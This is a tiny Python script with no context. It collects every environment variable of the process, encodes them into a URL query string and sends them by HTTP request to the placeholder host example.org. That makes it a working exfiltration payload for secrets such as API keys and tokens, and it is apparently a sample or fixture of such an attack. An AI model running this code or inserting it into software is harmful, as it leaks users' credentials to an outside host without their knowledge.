import os
import urllib.parse
import urllib.request

query = urllib.parse.urlencode(dict(os.environ))
urllib.request.urlopen("https://example.org/?" + query)
